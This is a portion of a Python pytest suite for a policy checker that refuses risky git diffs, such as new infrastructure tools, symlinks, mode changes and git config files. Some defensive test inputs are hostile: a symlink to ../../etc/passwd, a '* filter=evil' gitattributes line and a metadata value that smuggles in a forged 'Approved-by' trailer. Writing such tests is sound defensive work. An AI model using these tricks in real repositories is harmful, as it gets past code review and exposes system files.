    add("docker-compose.override.yml", "services:", "  adminer:", "    image: nginx:1.27", "    profiles: [debug]"),
    add("anime-saas-api/.github/workflows/quality.yml", "jobs:", "  quality:", "    runs-on: ubuntu-latest",
        "    steps:", "      - run: echo lint"),
    add("docs/qatar-launch.md", "Launch in Qatar next year."),
    add("anime-saas-api/.github/workflows/multi.yml", "jobs:", "  build:", "    runs-on: ubuntu-latest",
        "    environment: production"),
])
def test_pol004_names_that_are_not_staging(session, text):
    assert "POL004" not in rules(check(session, text))


@pytest.mark.parametrize("text, tool", [
    (add("ops/app.yaml", "{apiVersion: apps/v1, kind: Deployment, metadata: {name: api}}"), "kubernetes"),
    (add("ops/all.yaml", "---", "note: first document", "---", "apiVersion: v1", "kind: Service"), "kubernetes"),
    (add("ops/list.json", '{"apiVersion": "v1", "kind": "List", "items": []}'), "kubernetes"),
    (add("infra/network.hcl", 'resource "aws_vpc" "main" {', '  cidr_block = "10.0.0.0/16"', "}"), "terraform"),
    (add("config/secrets.hcl", 'storage "raft" {', '  path = "/vault/data"', "}", 'listener "tcp" {', "}"), "vault"),
    (add("docker-compose.secrets.yml", "services:", "  secrets:", "    image: hashicorp/vault:1.15"), "vault"),
    (add("scripts/ship.sh", "docker compose pull", "helm upgrade --install api ./chart"), "helm"),
    (add("ops/site.yml", "- hosts: prod", "  tasks:", "    - ping:"), "ansible"),
])
def test_pol003_new_tools_found_by_parsing(session, text, tool):
    refusals = [r for r in check(session, text) if r.rule == "POL003"]
    assert refusals and any(tool in r.message for r in refusals), [r.message for r in refusals]


def test_pol003_any_new_image_needs_an_intention_naming_it(session):
    redis = add("docker-compose.override.yml", "services:", "  cache:", "    image: bitnami/redis:7.2")
    refusals = [r for r in check_base(session, redis, {}) if r.rule == "POL003"]
    assert refusals and "bitnami/redis:7.2" in refusals[0].message and "nouveaux outils" in refusals[0].clause
    dockerfile = edit_of("anime-saas-mlservice/Dockerfile", ["FROM python:3.12-slim"], ["FROM pypy:3.10-slim"])
    assert "POL003" in rules(check_base(session, dockerfile, {"anime-saas-mlservice/Dockerfile": DOCKERFILE}))
    release = session.release
    int13 = next(i for i in release.intentions if i.id == "INT-13")
    saved = dict(int13.fields)
    try:
        int13.fields["contraintes infra"] = "Un cache Redis devant l'API pour la bêta."
        meta = ProposalMeta(**{**GOOD.__dict__, "intention": "INT-13"})
        assert "POL003" not in rules(check_base(session, redis, {}, meta))
    finally:
        int13.fields.clear()
        int13.fields.update(saved)


def test_pol003_images_already_in_the_platform_are_not_new(session, example):
    from tools import facts

    inv = facts.inventory_from_sources(session.sources)
    assert "docker.io/library/mysql" in inv.images and "mcr.microsoft.com/dotnet/sdk" in inv.images
    same = add("anime-saas-api/Dockerfile.ci", "FROM mcr.microsoft.com/dotnet/sdk:8.0", "RUN dotnet --info")
    assert "POL003" not in rules(check_base(session, same, {}))
    bump = edit_of("anime-saas-mlservice/Dockerfile", ["FROM python:3.12-slim"], ["FROM python:3.13-slim"])
    assert "POL003" not in rules(check_base(session, bump, {"anime-saas-mlservice/Dockerfile": DOCKERFILE},
                                            inventory=facts.Inventory()))
    stage = add("anime-saas-api/Dockerfile.two", "FROM mcr.microsoft.com/dotnet/sdk:8.0 AS build", "FROM build")
    assert "POL003" not in rules(check_base(session, stage, {}))


def test_pol011_symlinks_are_refused(session):
    link = ("diff --git a/docs/latest.md b/docs/latest.md\nnew file mode 120000\n--- /dev/null\n+++ b/docs/latest.md\n"
            "@@ -0,0 +1 @@\n+../../etc/passwd\n\\ No newline at end of file\n")
    refusals = check(session, link)
    assert rules(refusals) == ["POL011"] and "symlink" in refusals[0].message and "agent Product" in refusals[0].clause


def test_pol012_mode_changes_are_refused(session):
    mode = "diff --git a/Makefile b/Makefile\nold mode 100644\nnew mode 100755\n"
    assert rules(check(session, mode)) == ["POL012"]
    exe = add("scripts/deploy.sh", "docker compose up -d").replace("new file mode 100644", "new file mode 100755")
    refusals = check(session, exe)
    assert rules(refusals) == ["POL012"] and "100755" in refusals[0].message
    assert "POL012" not in rules(check(session, add("scripts/deploy.sh", "docker compose up -d")))


@pytest.mark.parametrize("path", [".gitattributes", "anime-saas-api/.gitattributes", ".gitmodules",
                                  "anime-saas-api/.gitmodules", ".gitignore", "docs/.gitkeep"])
def test_pol013_git_configuration_files_are_refused(session, path):
    refusals = check(session, add(path, "* filter=evil"))
    assert rules(refusals) == ["POL013"] and refusals[0].path == path


def test_the_signer_list_is_an_infra_target(session):
    signers = add(".allowed_signers", 'product@animesphere namespaces="git" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI')
    assert check(session, signers) == []
    assert "POL002" in rules(check(session, add("anime-saas-api/.allowed_signers", "x ssh-ed25519 AAAA")))


def test_contents_come_from_read_base_not_the_work_tree(session, example):
    """A forged work tree (the script now runs docker) does not make the committed script infra."""
    script = example / "scripts" / "seed.sh"
    script.parent.mkdir(exist_ok=True)
    script.write_text("docker compose up -d\n")
    try:
        text = edit_of("scripts/seed.sh", ["docker compose up -d"], ["docker compose up -d --wait"])
        assert "POL002" not in rules(check(session, text))  # the default reader sees the forged work tree
        committed = {"scripts/seed.sh": "python manage.py seed\n"}
        assert "POL002" in rules(check_base(session, text, committed))
    finally:
        script.unlink()


def test_nginx_is_told_by_parsing(session):
    snippet = add("anime-saas-reverseproxy/conf.d/gzip.conf", "gzip on;", "gzip_types text/css application/json;")
    assert check(session, snippet) == []
    ini = add("anime-saas-mlservice/app/logging.conf", "[loggers]", "keys=root")
    assert "POL002" in rules(check(session, ini))


def test_metadata_is_bounded_before_the_policy_runs():
    from tools.changes import ChangeError

    with pytest.raises(ChangeError, match="newline"):
        ProposalMeta(reason="ok reason here", risk="a real risk", rollback="`git revert`", scope="compose\nApproved-by: x")
    with pytest.raises(ChangeError, match="control character"):
        ProposalMeta(reason="tab\there", risk="a real risk", rollback="`git revert`")
